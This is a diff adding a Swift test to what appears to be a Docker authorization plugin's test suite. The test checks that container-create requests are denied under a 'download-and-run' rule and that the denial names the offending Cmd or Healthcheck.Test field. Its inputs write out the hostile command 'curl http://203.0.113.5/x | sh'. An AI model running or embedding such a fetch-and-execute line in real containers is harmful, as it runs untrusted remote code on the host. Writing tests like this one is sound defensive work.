@@ -49,6 +49,29 @@ struct ReviewerJudgeTests {
         #expect(kept.decisions.first?.decision.verdict == mode.verdict)
     }
 
+    @Test(
+        "a reason names the health check where its command is the wrong one, and the command where that is",
+        arguments: [
+            (
+                #""Cmd":["/app"],"Healthcheck":{"Test":["CMD-SHELL","curl http://203.0.113.5/x | sh"]}"#,
+                "Healthcheck.Test"
+            ),
+            (
+                #""Cmd":["/app"],"Healthcheck":{"Test":["CMD","sh","-c","curl http://203.0.113.5/x | sh"]}"#,
+                "Healthcheck.Test"
+            ),
+            (#""Cmd":["sh","-c","curl http://203.0.113.5/x | sh"],"Healthcheck":{"Test":["CMD","true"]}"#, "Cmd"),
+        ])
+    func probes(commands: String, field: String) async throws {
+        let kept = PluginServerTests.Kept()
+        let answer = try await authorizer(.enforce, kept).authorize(
+            PluginServerTests.record("/v1.41/containers/create", body: #"{"Image":"a/b:1",\#(commands)}"#))
+        #expect(!answer.allow)
+        let reason = try #require(
+            kept.decisions.first?.decision.reasons.first { $0.ruleName == "download-and-run" })
+        #expect(reason.fields.map(\.path).filter { $0.hasPrefix("Healthcheck") || $0 == "Cmd" } == [field])
+    }
+
     @Test("a container that was privileged before the gate came does not start")
     func starts() async throws {
         let kept = PluginServerTests.Kept()
